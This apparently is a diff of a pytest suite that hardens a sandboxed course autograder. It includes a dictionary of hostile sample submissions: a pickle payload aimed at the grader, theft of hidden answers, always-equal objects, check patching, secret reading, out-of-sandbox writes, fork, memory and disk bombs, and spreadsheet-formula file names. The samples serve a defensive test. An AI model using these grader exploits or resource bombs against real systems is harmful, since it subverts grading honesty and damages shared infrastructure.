@@ -16,8 +16,9 @@ REPO = Path(__file__).resolve().parents[1]
 BOOK_CHAPTERS = sorted({p.name[:4] for p in (REPO / "book").glob("ch[0-9][0-9]_*.ipynb")})
 CHAPTERS = sorted(p.stem for p in (REPO / "book" / "_assignments").glob("ch[0-9][0-9].ipynb"))
 
-pytest.importorskip("otter", reason="the grader is not installed (make test installs it: "
-                    "book/_assignments/requirements.txt)")
+pytest.importorskip(
+    "otter", reason="the grader is not installed (make test installs it: book/_assignments/requirements.txt)"
+)
 nbformat = pytest.importorskip("nbformat")
 pytestmark = pytest.mark.skipif(
     shutil.which("bwrap") is None,
@@ -27,8 +28,9 @@ pytestmark = pytest.mark.skipif(
 
 def make(*args: str, timeout: int = 600) -> subprocess.CompletedProcess[str]:
     """Run the README's make command from the repository root."""
-    return subprocess.run(["make", "--no-print-directory", *args], cwd=REPO, capture_output=True,
-                          text=True, timeout=timeout)
+    return subprocess.run(
+        ["make", "--no-print-directory", *args], cwd=REPO, capture_output=True, text=True, timeout=timeout
+    )
 
 
 def points(test_file: Path) -> float:
@@ -142,7 +144,7 @@ ATTACK_MARKER = "DESCENT-ATTACK-WAS-HERE"
 ATTACKS: dict[str, str] = {
     # otter's logging server unpickled what reached it over loopback: a grader that listens
     # anywhere the sandbox can reach is an escape. A bait server like it listens on the host.
-    "loopback": '''
+    "loopback": """
 import pickle, socket, os
 
 class Payload:
@@ -170,9 +172,9 @@ def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
     return -1.0
 if not reached:
     raise ConnectionRefusedError(f"no grader server reachable; the web: {{urllib_error}}")
-''',
+""",
     # read the expected value out of the test's frame, or find the test among live objects
-    "frames": '''
+    "frames": """
 import gc, inspect
 
 def steal(names=("expected", "ratio", "best")):
@@ -192,9 +194,9 @@ def count_steps(lr, x0, tol):
 
 def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
     return steal()
-''',
+""",
     # an answer that equals everything
-    "always_equal": '''
+    "always_equal": """
 class AlwaysEqual:
     def __eq__(self, other): return True
     def __ne__(self, other): return False
@@ -224,9 +226,9 @@ def count_steps(lr, x0, tol):
 
 def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
     return SneakyFloat(0.123)
-''',
+""",
     # make the checks pass by patching otter and the comparisons they use
-    "patched_checks": '''
+    "patched_checks": """
 import builtins, numpy as np, otter
 from otter.test_files import abstract_test, exception_test
 
@@ -246,9 +248,9 @@ def count_steps(lr, x0, tol):
 
 def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
     return 0.0
-''',
+""",
     # read the hidden tests, the reference solutions, the grader's environment and secrets
-    "read_secrets": '''
+    "read_secrets": """
 import glob, os, pathlib
 
 found = {{}}
@@ -269,9 +271,9 @@ def count_steps(lr, x0, tol):
 
 def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
     return float(len(solution))
-''',
+""",
     # change the other submissions and the gradebook, leave files behind
-    "write_outside": '''
+    "write_outside": """
 import pathlib
 
 def count_steps(lr, x0, tol):
@@ -283,8 +285,8 @@ def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
 for target in ["{repo}/{marker}", "{submissions}/honest_correct.ipynb", "{grades}", "/tmp/{marker}",
                "{submissions}/{marker}.ipynb", "/root/{marker}"]:
     pathlib.Path(target).write_text("{marker}")
-''',
-    "memory_bomb": '''
+""",
+    "memory_bomb": """
 def count_steps(lr, x0, tol):
     return 2
 
@@ -294,8 +296,8 @@ def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
 hoard = []
 while True:
     hoard.append(b"x" * (64 << 20))
-''',
-    "disk_bomb": '''
+""",
+    "disk_bomb": """
 def count_steps(lr, x0, tol):
     return 3
 
@@ -310,8 +312,8 @@ with open("/tmp/one-big-file", "wb") as f:
 for i in range(100_000):
     with open(f"/tmp/filler-{{i}}", "wb") as f:
         f.write(b"x" * (16 << 20))
-''',
-    "output_bomb": '''
+""",
+    "output_bomb": """
 def count_steps(lr, x0, tol):
     return 4
 
@@ -321,8 +323,8 @@ def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
 line = "x" * (1 << 20)
 for _ in range(1024):  # 1 GiB of printed output
     print(line)
-''',
-    "fork_bomb": '''
+""",
+    "fork_bomb": """
 import os
 
 def count_steps(lr, x0, tol):
@@ -336,8 +338,8 @@ while True:
         os.fork()
     except OSError:
         pass
-''',
-    "stubborn_loop": '''
+""",
+    "stubborn_loop": """
 import signal, time
 
 for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
@@ -354,9 +356,9 @@ while True:
         time.sleep(0.1)
     except BaseException:
         pass
-''',
+""",
     # functions that only hang when the grader calls them
-    "hanging_calls": '''
+    "hanging_calls": """
 def count_steps(lr, x0, tol):
     while True:
         try:
@@ -367,9 +369,9 @@ def count_steps(lr, x0, tol):
 def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
     import os
     os._exit(0)
-''',
+""",
     # arrays that broadcast to nothing, so that an all() over them is vacuously true
-    "empty_arrays": '''
+    "empty_arrays": """
 import numpy as np
 
 def count_steps(lr, x0, tol):
@@ -377,9 +379,9 @@ def count_steps(lr, x0, tol):
 
 def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
     return np.empty((0, 1))
-''',
+""",
     # talk to the grader's pipes directly: forged replies and garbage frames
-    "forged_frames": '''
+    "forged_frames": """
 import json, os, struct, sys
 
 replies = int(sys.argv[2])
@@ -394,7 +396,7 @@ def count_steps(lr, x0, tol):
 
 def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
     return None
-''',
+""",
 }
 
 # what each attack's row must say, in its note
@@ -455,11 +457,14 @@ def answers(assignments: Path) -> list[str]:
     return [c.source for c in solution.cells if "otter_assign_solution_cell" in c.metadata.get("tags", [])]
 
 
-def notebook(assignments: Path, q1: str | None, q2: str | None, label: str | None = "ch01",
-             before: str | None = None) -> object:
+def notebook(
+    assignments: Path, q1: str | None, q2: str | None, label: str | None = "ch01", before: str | None = None
+) -> object:
     """The student notebook of assignment 1 with these answers (None leaves the `...`)."""
     nb = nbformat.read(assignments / "student" / "ch01.ipynb", as_version=4)
-    cells = [c for c in nb.cells if c.cell_type == "code" and "otter_answer_cell" in c.metadata.get("tags", [])]
+    cells = [
+        c for c in nb.cells if c.cell_type == "code" and "otter_answer_cell" in c.metadata.get("tags", [])
+    ]
     for cell, answer in zip(cells, (q1, q2), strict=True):
         if answer is not None:
             cell.source = answer
@@ -480,15 +485,19 @@ def honest_submissions(assignments: Path, folder: Path) -> None:
     folder.mkdir(parents=True)
     nbformat.write(notebook(assignments, q1, q2), folder / "honest_correct.ipynb")
     assert "lrs[end < start].max()" in q2
-    nbformat.write(notebook(assignments, q1, q2.replace("lrs[end < start].max()", "lrs[end < start].min()")),
-                   folder / "honest_wrong_q2.ipynb")
+    nbformat.write(
+        notebook(assignments, q1, q2.replace("lrs[end < start].max()", "lrs[end < start].min()")),
+        folder / "honest_wrong_q2.ipynb",
+    )
     nbformat.write(notebook(assignments, q1, None), folder / "honest_only_q1.ipynb")
     broken = notebook(assignments, q1, q2)
     first_code = next(c for c in broken.cells if c.cell_type == "code")
     first_code.source = "raise RuntimeError('a broken first cell')\n" + first_code.source
     nbformat.write(broken, folder / "honest_raises.ipynb")
-    nbformat.write(notebook(assignments, q1.replace("# BEGIN SOLUTION", "while True:\n        pass"), q2),
-                   folder / "honest_loops.ipynb")
+    nbformat.write(
+        notebook(assignments, q1.replace("# BEGIN SOLUTION", "while True:\n        pass"), q2),
+        folder / "honest_loops.ipynb",
+    )
     nbformat.write(notebook(assignments, q1, q2, label=None), folder / "honest_no_label.ipynb")
     with zipfile.ZipFile(folder / "honest_export.zip", "w") as archive:  # what otter's export makes
         archive.writestr("ch01.ipynb", nbformat.writes(notebook(assignments, q1, q2)))
@@ -498,8 +507,10 @@ def attack_submissions(assignments: Path, folder: Path, fill: dict[str, str]) ->
     """Every attack in ATTACKS, and the files a careless or hostile class hands in."""
     for name, source in ATTACKS.items():
         code = source.format(**fill)
-        nbformat.write(notebook(assignments, code, "# the answer is in the cell above\n"),
-                       folder / f"attack_{name}.ipynb")
+        nbformat.write(
+            notebook(assignments, code, "# the answer is in the cell above\n"),
+            folder / f"attack_{name}.ipynb",
+        )
     formula = '=HYPERLINK("https:\\example.com?"&A1,"open me")'
     nbformat.write(notebook(assignments, None, None), folder / f"{formula}.ipynb")
     nbformat.write(notebook(assignments, None, None), folder / "@SUM(1+1)cmd.ipynb")
@@ -512,13 +523,23 @@ def attack_submissions(assignments: Path, folder: Path, fill: dict[str, str]) ->
 
 
 def tree_digest(root: Path) -> dict[str, str]:
-    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
-            for p in sorted(root.rglob("*")) if p.is_file() and not p.is_symlink()}
+    return {
+        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(root.rglob("*"))
+        if p.is_file() and not p.is_symlink()
+    }
 
 
 def grade_folder(folder: Path, assignments: Path, grades: Path) -> dict[str, dict[str, str]]:
-    result = make("grade", f"SUBMISSIONS={folder}", f"ASSIGNMENTS={assignments}", f"GRADES={grades}",
-                  f"CELL_TIMEOUT={CELL_TIMEOUT}", f"MEMORY_MIB={MEMORY_MIB}", timeout=1800)
+    result = make(
+        "grade",
+        f"SUBMISSIONS={folder}",
+        f"ASSIGNMENTS={assignments}",
+        f"GRADES={grades}",
+        f"CELL_TIMEOUT={CELL_TIMEOUT}",
+        f"MEMORY_MIB={MEMORY_MIB}",
+        timeout=1800,
+    )
     assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
     with grades.open(newline="", encoding="utf-8") as f:
         return {row["file"]: row for row in csv.DictReader(f)}
@@ -536,25 +557,47 @@ def hostile_class(assignments: Path, tmp_path_factory: pytest.TempPathFactory) -
     shutil.copytree(honest, mixed)
     grades = root / "class.csv"
     bait = BaitServer()
-    fill = {"repo": str(REPO), "assignments": str(assignments), "submissions": str(mixed),
-            "grades": str(grades), "marker": ATTACK_MARKER, "marker_path": str(root / ATTACK_MARKER),
-            "bait_port": str(bait.port), "host_ip": host_ip()}
+    fill = {
+        "repo": str(REPO),
+        "assignments": str(assignments),
+        "submissions": str(mixed),
+        "grades": str(grades),
+        "marker": ATTACK_MARKER,
+        "marker_path": str(root / ATTACK_MARKER),
+        "bait_port": str(bait.port),
+        "host_ip": host_ip(),
+    }
     attack_submissions(assignments, mixed, fill)
-    guarded = {"submissions": mixed, "assignments": assignments, "book": REPO / "book",
-               "lessons_src": REPO / "lessons_src"}
+    guarded = {
+        "submissions": mixed,
+        "assignments": assignments,
+        "book": REPO / "book",
+        "lessons_src": REPO / "lessons_src",
+    }
     before = {name: tree_digest(path) for name, path in guarded.items()}
     try:
         rows = grade_folder(mixed, assignments, grades)
     finally:
         bait.close()
     after = {name: tree_digest(path) for name, path in guarded.items()}
-    return {"alone": alone, "rows": rows, "before": before, "after": after, "bait": bait.received,
-            "root": root, "grades": grades, "fill": fill, "entries": sorted(p.name for p in mixed.iterdir())}
+    return {
+        "alone": alone,
+        "rows": rows,
+        "before": before,
+        "after": after,
+        "bait": bait.received,
+        "root": root,
+        "grades": grades,
+        "fill": fill,
+        "entries": sorted(p.name for p in mixed.iterdir()),
+    }
 
 
 def test_honest_work_gets_the_predicted_score(hostile_class: dict[str, object], assignments: Path) -> None:
     rows = hostile_class["alone"]
-    possible = {t.stem: points(t) for t in sorted((assignments / "autograder" / "ch01" / "tests").glob("q*.py"))}
+    possible = {
+        t.stem: points(t) for t in sorted((assignments / "autograder" / "ch01" / "tests").glob("q*.py"))
+    }
     full = [possible["q1"], possible["q2"]]
 
     def scores(name: str) -> list[float]:
@@ -564,7 +607,10 @@ def test_honest_work_gets_the_predicted_score(hostile_class: dict[str, object], 
     assert scores("honest_export.zip") == full
     assert scores("honest_wrong_q2.ipynb") == [possible["q1"], 0.0]
     assert scores("honest_only_q1.ipynb") == [possible["q1"], 0.0]
-    assert scores("honest_raises.ipynb") == full and "RuntimeError: a broken first cell" in rows["honest_raises.ipynb"]["note"]
+    assert (
+        scores("honest_raises.ipynb") == full
+        and "RuntimeError: a broken first cell" in rows["honest_raises.ipynb"]["note"]
+    )
     assert scores("honest_loops.ipynb") == [0.0, possible["q2"]]
     assert f"left out: it ran past {CELL_TIMEOUT} s" in rows["honest_loops.ipynb"]["note"]
     assert scores("honest_no_label.ipynb") == full
@@ -605,20 +651,28 @@ def test_formula_file_names_are_escaped_in_the_gradebook(hostile_class: dict[str
     text = Path(hostile_class["grades"]).read_text(encoding="utf-8")
     with Path(hostile_class["grades"]).open(newline="", encoding="utf-8") as f:
         cells = [cell for row in csv.reader(f) for cell in row]
-    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would run"
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (
+        "a cell a spreadsheet would run"
+    )
     assert "'=HYPERLINK(" in text and "'@SUM(1+1)cmd" in text
 
 
 def test_no_file_outside_the_sandbox_changes(hostile_class: dict[str, object]) -> None:
     assert hostile_class["after"] == hostile_class["before"]
     fill = hostile_class["fill"]
-    for place in (REPO / ATTACK_MARKER, Path("/tmp") / ATTACK_MARKER, Path("/root") / ATTACK_MARKER,
-                  Path(fill["marker_path"]), Path(fill["submissions"]) / f"{ATTACK_MARKER}.ipynb"):
+    for place in (
+        REPO / ATTACK_MARKER,
+        Path("/tmp") / ATTACK_MARKER,
+        Path("/root") / ATTACK_MARKER,
+        Path(fill["marker_path"]),
+        Path(fill["submissions"]) / f"{ATTACK_MARKER}.ipynb",
+    ):
         assert not place.exists(), f"a submission wrote {place}"
 
 
-def test_feedback_names_every_test_and_never_a_hidden_value(hostile_class: dict[str, object],
-                                                            assignments: Path) -> None:
+def test_feedback_names_every_test_and_never_a_hidden_value(
+    hostile_class: dict[str, object], assignments: Path
+) -> None:
     feedback = Path(hostile_class["grades"]).parent / "class-feedback"
     files = sorted(feedback.glob("*.md"))
     assert len(files) == len(hostile_class["rows"])
@@ -626,7 +680,9 @@ def test_feedback_names_every_test_and_never_a_hidden_value(hostile_class: dict[
     assert "**6 of 6 points**" in correct and "test_count_steps_hidden (hidden)" in correct
     wrong = (feedback / "honest_wrong_q2.ipynb.md").read_text()
     assert "| test_sweep_hidden (hidden) | 0 of 2 | failed |" in wrong
-    hidden_source = "".join(p.read_text() for p in (assignments / "autograder" / "ch01" / "tests").glob("q*.py"))
+    hidden_source = "".join(
+        p.read_text() for p in (assignments / "autograder" / "ch01" / "tests").glob("q*.py")
+    )
     hidden_values = set(re.findall(r"\b\d+\.\d+\b", hidden_source.split("hidden=True", 1)[1]))
     public_text = (assignments / "student" / "ch01.ipynb").read_text()
     for file in files:
@@ -644,7 +700,9 @@ def test_grade_needs_a_folder(assignments: Path, tmp_path: Path) -> None:
     assert missing.returncode != 0 and "must be a folder" in missing.stdout + missing.stderr
 
 
-def test_every_reference_solution_gets_full_marks_through_the_sandbox(assignments: Path, tmp_path: Path) -> None:
+def test_every_reference_solution_gets_full_marks_through_the_sandbox(
+    assignments: Path, tmp_path: Path
+) -> None:
     """The boundary carries every test's inputs in and every answer back, on all assignments."""
     for name in CHAPTERS:
         folder = tmp_path / name
@@ -653,9 +711,21 @@ def test_every_reference_solution_gets_full_marks_through_the_sandbox(assignment
     python = REPO / ".venv" / "bin" / "python"
     for name in CHAPTERS:
         grades = tmp_path / f"{name}.csv"
-        result = subprocess.run([str(python), str(REPO / "book" / "_assignments" / "autograde.py"), "grade",
-                                 str(tmp_path / name), "--assignments", str(assignments), "--out", str(grades)],
-                                capture_output=True, text=True, timeout=600)
+        result = subprocess.run(
+            [
+                str(python),
+                str(REPO / "book" / "_assignments" / "autograde.py"),
+                "grade",
+                str(tmp_path / name),
+                "--assignments",
+                str(assignments),
+                "--out",
+                str(grades),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=600,
+        )
         assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
         with grades.open() as f:
             (row,) = csv.DictReader(f)
@@ -663,7 +733,8 @@ def test_every_reference_solution_gets_full_marks_through_the_sandbox(assignment
 
 
 def test_the_snooping_submission_reads_the_hidden_tests_without_the_sandbox(
-    assignments: Path, tmp_path: Path,
+    assignments: Path,
+    tmp_path: Path,
 ) -> None:
     """The read_secrets attack is real: graded with --no-sandbox, it finds the reference solution."""
     folder = tmp_path / "snoop"
@@ -674,9 +745,22 @@ def test_the_snooping_submission_reads_the_hidden_tests_without_the_sandbox(
     grades = tmp_path / "grades.csv"
     python = REPO / ".venv" / "bin" / "python"
     result = subprocess.run(
-        [str(python), str(REPO / "book" / "_assignments" / "autograde.py"), "grade", str(folder),
-         "--assignments", str(assignments), "--out", str(grades), "--no-sandbox", "--cell-timeout", "120"],
-        capture_output=True, text=True, timeout=300,
+        [
+            str(python),
+            str(REPO / "book" / "_assignments" / "autograde.py"),
+            "grade",
+            str(folder),
+            "--assignments",
+            str(assignments),
+            "--out",
+            str(grades),
+            "--no-sandbox",
+            "--cell-timeout",
+            "120",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=300,
     )
     assert result.returncode == 0, result.stdout + result.stderr
     with grades.open() as f:
@@ -690,11 +774,15 @@ def test_public_checks_run_in_the_student_notebook_alone(assignments: Path, tmp_
 
     q1, q2 = answers(assignments)
     feedback = {}
-    for name, nb in (("correct", notebook(assignments, q1, q2)),
-                     ("wrong", notebook(assignments, q1, q2.replace("end < start].max()", "end < start].min()")))):
+    for name, nb in (
+        ("correct", notebook(assignments, q1, q2)),
+        ("wrong", notebook(assignments, q1, q2.replace("end < start].max()", "end < start].min()"))),
+    ):
         folder = tmp_path / name
         folder.mkdir()
-        client = NotebookClient(nb, timeout=120, allow_errors=True, resources={"metadata": {"path": str(folder)}})
+        client = NotebookClient(
+            nb, timeout=120, allow_errors=True, resources={"metadata": {"path": str(folder)}}
+        )
         client.execute()
         for cell in nb.cells:
             if cell.source.startswith("grader.check("):
